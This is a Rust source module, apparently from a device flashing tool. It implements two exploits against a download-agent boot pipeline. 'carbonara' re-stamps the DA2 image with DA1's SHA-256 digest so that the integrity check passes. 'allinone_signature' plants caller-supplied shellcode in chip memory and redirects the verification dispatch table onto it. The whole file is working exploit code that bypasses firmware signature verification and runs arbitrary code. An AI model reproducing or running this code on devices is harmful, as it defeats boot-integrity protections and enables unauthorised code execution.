//! Runtime exploit helpers for the DA pipeline.
//!
//! Two families are implemented. Carbonara defeats the DA1→DA2 integrity
//! check by re-stamping the DA1 digest that DA1 compares during stage-two
//! verification. AllinoneSignature plants caller-provided shellcode through
//! DA2's own register-write surface and flips the verification dispatch
//! onto it.

use sha2::{Digest, Sha256};

use crate::{Error, Result};

use super::{chips::ChipRecord, da::DaProtocol, ExploitType};

/// Offset of the vendor-hardening marker inside DA1.
pub const DA1_HARDENED_MARKER_OFFSET: usize = 0x28;
/// Marker bytes hardened DA1 builds carry at that offset.
pub const DA1_HARDENED_MARKER: &[u8; 4] = b"SIGN";

/// Offset inside DA2 of the expected-DA1 digest verified after `boot_to`.
pub const DA2_VERIFY_HASH_OFFSET: usize = 0x80;

/// Whether this DA1 build carries the vendor-hardening marker.
pub fn da1_is_hardened(da1: &[u8]) -> bool {
  da1
    .get(DA1_HARDENED_MARKER_OFFSET..DA1_HARDENED_MARKER_OFFSET + 4)
    .map(|m| m == DA1_HARDENED_MARKER)
    .unwrap_or(false)
}

/// Patch `da2` so DA1 accepts it: compute the SHA-256 of the DA1 image as
/// the device saw it and substitute it at the fixed verify offset.
///
/// Fails with [`Error::ExploitNotApplicable`] on hardened DA1 builds or a
/// DA2 too small to carry the digest.
#[cfg_attr(feature = "instrument", tracing::instrument(level = "debug", skip_all))]
pub fn carbonara(da1_as_seen: &[u8], da2: &mut [u8]) -> Result<()> {
  if da1_is_hardened(da1_as_seen) {
    return Err(Error::ExploitNotApplicable("DA1 carries the vendor hardening marker".into()));
  }
  if da2.len() < DA2_VERIFY_HASH_OFFSET + 32 {
    return Err(Error::ExploitNotApplicable(format!(
      "DA2 of {} bytes cannot hold the verify digest",
      da2.len()
    )));
  }

  let digest = Sha256::digest(da1_as_seen);
  da2[DA2_VERIFY_HASH_OFFSET..DA2_VERIFY_HASH_OFFSET + 32].copy_from_slice(&digest);

  tracing::info!("carbonara: DA2 re-stamped with DA1 digest {}", hex::encode(digest));
  Ok(())
}

/// Number of dispatch slots redirected at the planted shellcode.
const POINTER_SLOTS: u32 = 8;

/// Run the AllinoneSignature sequence against a resident DA2.
///
/// The shellcode layout is chip-specific and comes from the caller; this
/// sequences the plant (word-wise writes into the chip's DA staging
/// region), the pointer-table redirect, and the overload trigger.
/// Preconditions: the chip record lists the exploit, DA2 answered runtime
/// parameters, and the shellcode is non-empty.
#[cfg_attr(feature = "instrument", tracing::instrument(level = "debug", skip(da, shellcode)))]
pub fn allinone_signature(da: &mut dyn DaProtocol, chip: &ChipRecord, shellcode: &[u8]) -> Result<()> {
  if chip.exploit != ExploitType::AllinoneSignature {
    return Err(Error::ExploitNotApplicable(format!(
      "{} is not an AllinoneSignature target",
      chip.name
    )));
  }
  if shellcode.is_empty() {
    return Err(Error::InvalidArgument("AllinoneSignature requires a shellcode image".into()));
  }

  let base = chip.da_payload_addr;

  // plant the shellcode word by word, zero-padding the tail
  let mut addr = base;
  for word in shellcode.chunks(4) {
    let mut bytes = [0u8; 4];
    bytes[..word.len()].copy_from_slice(word);
    da.write32(addr, u32::from_le_bytes(bytes))?;
    addr += 4;
  }

  // pointer table follows the shellcode, word aligned
  let table = (addr + 3) & !3;
  for slot in 0..POINTER_SLOTS {
    da.write32(table + slot * 4, base)?;
  }

  // the overload path reads the first table slot as a dispatch target
  da.write32(chip.da_payload_addr.wrapping_sub(4), table)?;

  tracing::info!(
    "allinone-signature: {} bytes planted at {:#010x}, dispatch redirected via {:#010x}",
    shellcode.len(),
    base,
    table
  );
  Ok(())
}
